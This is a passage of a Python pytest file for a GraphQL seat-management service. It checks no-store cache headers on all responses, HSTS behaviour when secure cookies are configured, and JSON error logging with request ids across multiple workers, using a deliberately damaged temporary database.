            *(await sent_twice(lane, SEATS)),
            *(await sent_twice(lane, "{ seats { nope } }")),
            await lane.get("/graphql", params={"query": SEATS}),
            await lane.get("/history.csv"),
            await lane.get("/history.csv", headers={"Authorization": "Bearer nope"}),
            await lane.post("/graphql", content=b"x", headers={"content-type": "text/plain"}),
            await lane.get("/graphql", params={"query": "{ seats { used } }", "x": "\x00"}),
        ]
        for response in answers:
            assert response.headers.get("cache-control") == "no-store", (
                response.request.url,
                response.status_code,
            )
        assert answers[0].json()["data"]["seats"]
        assert answers[5].text.startswith("occurred_at")


@pytest.mark.parametrize("secure", [True, False])
async def test_issue_10_item_11c_hsts_when_the_cookie_is_secure(db, settings, secure):
    """Issue 10 item 11c: with SEATS_COOKIE_SECURE=true the service is reached over HTTPS only,
    and says so to browsers (HSTS) on every answer, refusals included; without it, not."""
    configured = Settings(database_url=settings.database_url, session_cookie_secure=secure)
    transport = httpx.ASGITransport(app=create_app(configured, manage_database=False))
    async with httpx.AsyncClient(transport=transport, base_url="http://t") as http:
        answers = [
            await http.get("/"),
            await http.post("/graphql", json={"query": SEATS}),
            await http.get("/healthz"),
            await http.post("/graphql", content=b"x", headers={"content-type": "text/plain"}),
        ]
    for response in answers:
        if secure:
            assert response.headers["strict-transport-security"] == (
                "max-age=31536000; includeSubDomains"
            )
        else:
            assert "strict-transport-security" not in response.headers


# --- issue 10 item 8: every worker logs JSON lines with the request id ---------------------


async def test_issue_10_item_8_workers_log_unexpected_errors_with_the_request_id(tmp_path):
    """Issue 10 item 8 (R14): `serve --workers 2` on a database that lost the tables of
    sign-in throttling and API tokens: signing in and token look-ups fail unexpectedly. The
    client gets INTERNAL_SERVER_ERROR and a request id; whichever worker answered logged the
    error as one JSON line carrying that request id (logging was configured in the parent
    process only, so workers wrote plain tracebacks)."""
    path = tmp_path / "damaged.sqlite3"
    database = f"sqlite://{path}"
    run_cli(database, "migrate")
    with sqlite3.connect(path) as damaged:
        damaged.executescript("DROP TABLE sign_in_throttle; DROP TABLE api_token;")
    async with running_server(database, tmp_path, workers=2) as server:
        assert len(await server.workers_up(2)) == 2
        given = []
        async with httpx.AsyncClient(base_url=server.base_url, timeout=10) as http:
            for n in range(8):  # enough for both workers to answer some
                headers = {"Authorization": f"Bearer seats_{n}"} if n % 2 else {}
                login = 'mutation { login(email: "a@example.com", password: "x") { __typename } }'
                response = await http.post(
                    "/graphql", json={"query": SEATS if n % 2 else login}, headers=headers
                )
                assert response.status_code in (200, 500), response.text
                error = response.json()["errors"][0]
                assert error["extensions"]["code"] == "INTERNAL_SERVER_ERROR"
                given.append(error["extensions"]["requestId"])
        server.stop()
        lines = server.log.read_text().splitlines()
    logged = {}
    for line in lines:
        if line.startswith("{"):
            entry = orjson.loads(line)
            if entry["level"] == "ERROR":
                logged[entry["request_id"]] = entry
    for rid in given:
        assert rid in logged, f"no JSON error line for request {rid}:\n" + "\n".join(lines[-40:])
        assert "Traceback" in logged[rid]["exception"]
    # Nothing but JSON lines, apart from the address the server prints when it starts.
    assert all(line.startswith(("{", "Seats is at")) for line in lines), lines[:20]
